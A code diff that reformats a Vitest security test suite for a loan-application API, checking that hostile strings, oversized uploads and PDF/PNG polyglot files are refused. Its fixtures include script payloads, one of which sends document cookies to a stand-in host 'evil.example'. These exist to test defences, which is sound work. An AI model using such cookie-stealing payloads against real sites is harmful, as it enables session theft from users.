@@ -10,7 +10,17 @@ import { request as httpRequest } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { serve } from '@hono/node-server';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { APP, form, OPERATOR, PDF, PNG, registerBorrower, startSandbox, type Borrower, type Sandbox } from './harness.js';
+import {
+  APP,
+  form,
+  OPERATOR,
+  PDF,
+  PNG,
+  registerBorrower,
+  startSandbox,
+  type Borrower,
+  type Sandbox,
+} from './harness.js';
 
 let sb: Sandbox;
 let b: Borrower;
@@ -28,7 +38,12 @@ afterAll(async () => {
 
 /** Sends a raw JSON text (not via JSON.stringify, which would make lone surrogates well-formed escapes anyway). */
 async function rawJson(method: string, path: string, body: RequestInit['body'], token?: string) {
-  const res = await sb.app.request(path, { method, headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) }, body, duplex: 'half' } as RequestInit);
+  const res = await sb.app.request(path, {
+    method,
+    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
+    body,
+    duplex: 'half',
+  } as RequestInit);
   const type = res.headers.get('content-type') ?? '';
   const text = await res.text();
   return { status: res.status, type, body: type.includes('json') ? (JSON.parse(text) as { errors: string[] }) : text };
@@ -54,14 +69,20 @@ function lazyBody(chunks: () => Generator<Uint8Array>) {
 const MB = 1024 * 1024;
 
 async function newCondition(owner: Borrower) {
-  const r = await sb.call('POST', `/sandbox/applications/${owner.uuid}/conditions`, { body: { categoryEnum: 'GENERIC_DOCUMENT_REQUEST' }, headers: OPERATOR });
+  const r = await sb.call('POST', `/sandbox/applications/${owner.uuid}/conditions`, {
+    body: { categoryEnum: 'GENERIC_DOCUMENT_REQUEST' },
+    headers: OPERATOR,
+  });
   // One condition of a kind per person (pipeline/conditions.ts): a later call gives the one there is (200).
   expect([200, 201]).toContain(r.status);
   return r.body.uuid as string;
 }
 
 const upload = async (owner: Borrower, conditionUuid: string, files: { name: string; blob: Blob }[]) =>
-  sb.call('POST', `${CONDITIONS(owner.uuid)}/${conditionUuid}/documents`, { token: owner.token, form: form({}, files) });
+  sb.call('POST', `${CONDITIONS(owner.uuid)}/${conditionUuid}/documents`, {
+    token: owner.token,
+    form: form({}, files),
+  });
 
 const createBody = (over: Record<string, unknown> = {}) => ({
   property: { street1: '12 Oak Street', city: 'San Mateo', state: 'CA', zip: '94401' },
@@ -76,13 +97,74 @@ const createBody = (over: Record<string, unknown> = {}) => ({
 describe('finding 5: hostile strings answer 400, never 500', () => {
   // JSON.stringify keeps NUL as \u0000 and (since ES2019) a lone surrogate as \ud800: both reach the server as written.
   const cases: [string, string, string, () => Record<string, unknown>, string, boolean][] = [
-    ['application create, NUL', 'POST', APP, () => createBody({ name: { firstName: 'Ann\u0000', lastName: 'Lee' } }), 'name.firstName', true],
-    ['application create, lone surrogate', 'POST', APP, () => createBody({ property: { street1: '12 Oak \ud800Street', city: 'San Mateo', state: 'CA', zip: '94401' } }), 'property.street1', true],
-    ['CEO feedback, NUL', 'POST', '/service-profile/api/v1/feedback/ceo', () => ({ topic: 'Give us a compliment', message: 'Lovely service \u0000 thank you', marketingConsent: false, pathname: '/x', productType: 'HELOC' }), 'message', true],
-    ['CEO feedback, lone surrogate', 'POST', '/service-profile/api/v1/feedback/ceo', () => ({ topic: 'Give us a compliment', message: 'Lovely service thank you', marketingConsent: false, pathname: '/x\udc00', productType: 'HELOC' }), 'pathname', true],
-    ['telemetry event, NUL in a property', 'POST', '/ft/external/event', () => ({ event: 'page-view', eventProperties: { note: 'a\u0000b' } }), 'eventProperties.note', false],
-    ['telemetry event, NUL in a key', 'POST', '/ft/external/event', () => ({ event: 'page-view', eventProperties: { 'k\u0000': 1 } }), 'eventProperties', false],
-    ['telemetry session, lone surrogate', 'POST', '/ft/external/session', () => ({ platform: 'WEB', referrer: '\udbff' }), 'referrer', false],
+    [
+      'application create, NUL',
+      'POST',
+      APP,
+      () => createBody({ name: { firstName: 'Ann\u0000', lastName: 'Lee' } }),
+      'name.firstName',
+      true,
+    ],
+    [
+      'application create, lone surrogate',
+      'POST',
+      APP,
+      () => createBody({ property: { street1: '12 Oak \ud800Street', city: 'San Mateo', state: 'CA', zip: '94401' } }),
+      'property.street1',
+      true,
+    ],
+    [
+      'CEO feedback, NUL',
+      'POST',
+      '/service-profile/api/v1/feedback/ceo',
+      () => ({
+        topic: 'Give us a compliment',
+        message: 'Lovely service \u0000 thank you',
+        marketingConsent: false,
+        pathname: '/x',
+        productType: 'HELOC',
+      }),
+      'message',
+      true,
+    ],
+    [
+      'CEO feedback, lone surrogate',
+      'POST',
+      '/service-profile/api/v1/feedback/ceo',
+      () => ({
+        topic: 'Give us a compliment',
+        message: 'Lovely service thank you',
+        marketingConsent: false,
+        pathname: '/x\udc00',
+        productType: 'HELOC',
+      }),
+      'pathname',
+      true,
+    ],
+    [
+      'telemetry event, NUL in a property',
+      'POST',
+      '/ft/external/event',
+      () => ({ event: 'page-view', eventProperties: { note: 'a\u0000b' } }),
+      'eventProperties.note',
+      false,
+    ],
+    [
+      'telemetry event, NUL in a key',
+      'POST',
+      '/ft/external/event',
+      () => ({ event: 'page-view', eventProperties: { 'k\u0000': 1 } }),
+      'eventProperties',
+      false,
+    ],
+    [
+      'telemetry session, lone surrogate',
+      'POST',
+      '/ft/external/session',
+      () => ({ platform: 'WEB', referrer: '\udbff' }),
+      'referrer',
+      false,
+    ],
   ];
   it.each(cases)('%s', async (_name, method, path, body, field, signedIn) => {
     const before = await sb.deps.db.query.telemetry.findMany();
@@ -104,7 +186,9 @@ describe('finding 5: hostile strings answer 400, never 500', () => {
   });
 
   it('tabs, new lines and emoji are text, not refused', async () => {
-    const r = await sb.call('POST', '/ft/external/event', { body: { event: 'note', eventProperties: { text: 'line one\n\tline two 😀 é' } } });
+    const r = await sb.call('POST', '/ft/external/event', {
+      body: { event: 'note', eventProperties: { text: 'line one\n\tline two 😀 é' } },
+    });
     expect(r.status).toBe(202);
   });
 
@@ -117,7 +201,11 @@ describe('finding 5: hostile strings answer 400, never 500', () => {
 
   it('a multipart body with no boundary answers 400', async () => {
     const condition = await newCondition(b);
-    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, { method: 'POST', headers: { authorization: `Bearer ${b.token}`, 'content-type': 'multipart/form-data' }, body: 'file=abc' });
+    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${b.token}`, 'content-type': 'multipart/form-data' },
+      body: 'file=abc',
+    });
     expect(res.status).toBe(400);
     expect(await res.json()).toEqual({ errors: [expect.stringMatching(/boundary/)] });
   });
@@ -129,18 +217,35 @@ describe('finding 5: hostile strings answer 400, never 500', () => {
     expect(up.body.uploaded).toEqual([expect.objectContaining({ name: 'résumé😀.pdf' })]);
     const docs = await sb.call('GET', `${APP}/${b.uuid}/documents`, { token: b.token });
     const doc = docs.body.find((d: { name: string }) => d.name === 'résumé😀.pdf');
-    const res = await sb.app.request(`${APP}/${b.uuid}/documents/${doc.uuid}`, { headers: { authorization: `Bearer ${b.token}` } });
+    const res = await sb.app.request(`${APP}/${b.uuid}/documents/${doc.uuid}`, {
+      headers: { authorization: `Bearer ${b.token}` },
+    });
     expect(res.status).toBe(200);
-    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="resume.pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9%F0%9F%98%80.pdf`);
-    expect(Buffer.from(await res.arrayBuffer()).subarray(0, 5).toString()).toBe('%PDF-');
+    expect(res.headers.get('content-disposition')).toBe(
+      `attachment; filename="resume.pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9%F0%9F%98%80.pdf`,
+    );
+    expect(
+      Buffer.from(await res.arrayBuffer())
+        .subarray(0, 5)
+        .toString(),
+    ).toBe('%PDF-');
   });
 
   it('sandbox calls for an unknown uuid answer 404', async () => {
-    const conditions = await sb.call('POST', `/sandbox/applications/${randomUUID()}/conditions`, { body: { categoryEnum: 'GENERIC_DOCUMENT_REQUEST' }, headers: OPERATOR });
+    const conditions = await sb.call('POST', `/sandbox/applications/${randomUUID()}/conditions`, {
+      body: { categoryEnum: 'GENERIC_DOCUMENT_REQUEST' },
+      headers: OPERATOR,
+    });
     expect(conditions).toMatchObject({ status: 404, body: { errors: [expect.any(String)] } });
-    const notifications = await sb.call('POST', `/sandbox/users/${randomUUID()}/notifications`, { body: { title: 'Hello' }, headers: OPERATOR });
+    const notifications = await sb.call('POST', `/sandbox/users/${randomUUID()}/notifications`, {
+      body: { title: 'Hello' },
+      headers: OPERATOR,
+    });
     expect(notifications).toMatchObject({ status: 404, body: { errors: [expect.any(String)] } });
-    const state = await sb.call('PUT', `/sandbox/applications/${randomUUID()}/state`, { body: { state: 'HMDA' }, headers: OPERATOR });
+    const state = await sb.call('PUT', `/sandbox/applications/${randomUUID()}/state`, {
+      body: { state: 'HMDA' },
+      headers: OPERATOR,
+    });
     expect(state).toMatchObject({ status: 404, body: { errors: [expect.any(String)] } });
   });
 });
@@ -181,14 +286,23 @@ describe('finding 7: body limits hold on the stream, chunked or not', () => {
       let sent = 0;
       let answered = false;
       const status = await new Promise<{ code: number; body: string }>((resolve, reject) => {
-        const req = httpRequest({ host: '127.0.0.1', port, method: 'POST', path: '/ft/external/event', headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' } }, (res) => {
-          let body = '';
-          res.on('data', (d: Buffer) => (body += d.toString()));
-          res.on('end', () => {
-            resolve({ code: res.statusCode ?? 0, body });
-            req.destroy();
-          });
-        });
+        const req = httpRequest(
+          {
+            host: '127.0.0.1',
+            port,
+            method: 'POST',
+            path: '/ft/external/event',
+            headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
+          },
+          (res) => {
+            let body = '';
+            res.on('data', (d: Buffer) => (body += d.toString()));
+            res.on('end', () => {
+              resolve({ code: res.statusCode ?? 0, body });
+              req.destroy();
+            });
+          },
+        );
         req.on('error', (e) => (sent > MB ? undefined : reject(e)));
         req.write('{"event":"x","eventProperties":{"pad":"');
         const chunk = Buffer.alloc(64 * 1024, 0x61);
@@ -218,7 +332,9 @@ describe('finding 7: body limits hold on the stream, chunked or not', () => {
     const boundary = `----fuzz${randomUUID()}`;
     const body = lazyBody(function* () {
       for (let i = 0; i < count; i++) {
-        yield Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="f${i}.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n`);
+        yield Buffer.from(
+          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="f${i}.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n`,
+        );
         for (let sent = 9; sent < size; sent += 64 * 1024) yield Buffer.alloc(Math.min(64 * 1024, size - sent), 0x20);
         yield Buffer.from('\r\n');
       }
@@ -230,7 +346,12 @@ describe('finding 7: body limits hold on the stream, chunked or not', () => {
   it('50 files of 1.9 MB: the 11th file stops the reading with "at most 10"', async () => {
     const condition = await newCondition(b);
     const { stream, counter, type } = multipart(50, 1.9 * MB);
-    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, { method: 'POST', headers: { authorization: `Bearer ${b.token}`, 'content-type': type }, body: stream, duplex: 'half' } as RequestInit);
+    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${b.token}`, 'content-type': type },
+      body: stream,
+      duplex: 'half',
+    } as RequestInit);
     expect(res.status).toBe(400);
     expect(await res.json()).toEqual({ errors: ['Upload at most 10 files.'] });
     // Ten files and the start of the eleventh were read; the other 39 never were.
@@ -240,9 +361,16 @@ describe('finding 7: body limits hold on the stream, chunked or not', () => {
   it('a file over the size limit stops the reading with 413', async () => {
     const condition = await newCondition(b);
     const { stream, counter, type } = multipart(1, 60 * MB);
-    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, { method: 'POST', headers: { authorization: `Bearer ${b.token}`, 'content-type': type }, body: stream, duplex: 'half' } as RequestInit);
+    const res = await sb.app.request(`${CONDITIONS(b.uuid)}/${condition}/documents`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${b.token}`, 'content-type': type },
+      body: stream,
+      duplex: 'half',
+    } as RequestInit);
     expect(res.status).toBe(413);
-    expect(await res.json()).toEqual({ errors: ['f0.pdf is larger than 10 MB. Scan it at a lower resolution or split it, then upload it again.'] });
+    expect(await res.json()).toEqual({
+      errors: ['f0.pdf is larger than 10 MB. Scan it at a lower resolution or split it, then upload it again.'],
+    });
     expect(counter.pulled).toBeLessThan(12 * MB);
   });
 });
@@ -250,23 +378,47 @@ describe('finding 7: body limits hold on the stream, chunked or not', () => {
 describe('finding 13: password-protected PDFs and polyglots are refused', () => {
   it('an encrypted PDF is refused with how to fix it', async () => {
     const condition = await newCondition(b);
-    const encrypted = new Blob([readFileSync(new URL('./fixtures/encrypted.pdf', import.meta.url))], { type: 'application/pdf' });
+    const encrypted = new Blob([readFileSync(new URL('./fixtures/encrypted.pdf', import.meta.url))], {
+      type: 'application/pdf',
+    });
     const r = await upload(b, condition, [{ name: 'paystub.pdf', blob: encrypted }]);
-    expect(r).toMatchObject({ status: 400, body: { errors: ['This PDF is protected with a password. Open it, print it to a new PDF without a password, and upload that file.'] } });
+    expect(r).toMatchObject({
+      status: 400,
+      body: {
+        errors: [
+          'This PDF is protected with a password. Open it, print it to a new PDF without a password, and upload that file.',
+        ],
+      },
+    });
   });
 
   it('an HTML/PDF polyglot is refused', async () => {
     const condition = await newCondition(b);
-    const polyglot = new Blob(['%PDF-1.7\n<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'], { type: 'application/pdf' });
+    const polyglot = new Blob(
+      [
+        '%PDF-1.7\n<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n',
+      ],
+      { type: 'application/pdf' },
+    );
     const r = await upload(b, condition, [{ name: 'statement.pdf', blob: polyglot }]);
-    expect(r).toMatchObject({ status: 415, body: { errors: ['statement.pdf contains web page or script code, so it cannot be accepted. Upload a plain scan or photo as a PDF, JPG or PNG file.'] } });
+    expect(r).toMatchObject({
+      status: 415,
+      body: {
+        errors: [
+          'statement.pdf contains web page or script code, so it cannot be accepted. Upload a plain scan or photo as a PDF, JPG or PNG file.',
+        ],
+      },
+    });
   });
 
   it('a PNG/script polyglot is refused', async () => {
     const condition = await newCondition(b);
     const png = Buffer.from(await PNG().arrayBuffer());
     // The script rides in bytes after the image's end, where image viewers never look.
-    const polyglot = new Blob([Buffer.concat([png, Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')])], { type: 'image/png' });
+    const polyglot = new Blob(
+      [Buffer.concat([png, Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')])],
+      { type: 'image/png' },
+    );
     const r = await upload(b, condition, [{ name: 'photo.png', blob: polyglot }]);
     expect(r.status).toBe(415);
     expect(r.body.errors[0]).toMatch(/web page or script/);
@@ -275,8 +427,18 @@ describe('finding 13: password-protected PDFs and polyglots are refused', () => 
   it('a file whose name says another type than its bytes is refused; matching ones are kept', async () => {
     const condition = await newCondition(b);
     const misnamed = await upload(b, condition, [{ name: 'page.html', blob: new Blob([await PNG().arrayBuffer()]) }]);
-    expect(misnamed).toMatchObject({ status: 415, body: { errors: ['page.html is a PNG file but is named or labelled as something else. Upload it with a name ending in .png.'] } });
-    const ok = await upload(b, condition, [{ name: 'scan.PDF', blob: PDF() }, { name: 'photo.png', blob: PNG() }]);
+    expect(misnamed).toMatchObject({
+      status: 415,
+      body: {
+        errors: [
+          'page.html is a PNG file but is named or labelled as something else. Upload it with a name ending in .png.',
+        ],
+      },
+    });
+    const ok = await upload(b, condition, [
+      { name: 'scan.PDF', blob: PDF() },
+      { name: 'photo.png', blob: PNG() },
+    ]);
     expect(ok.status).toBe(201);
   });
 });
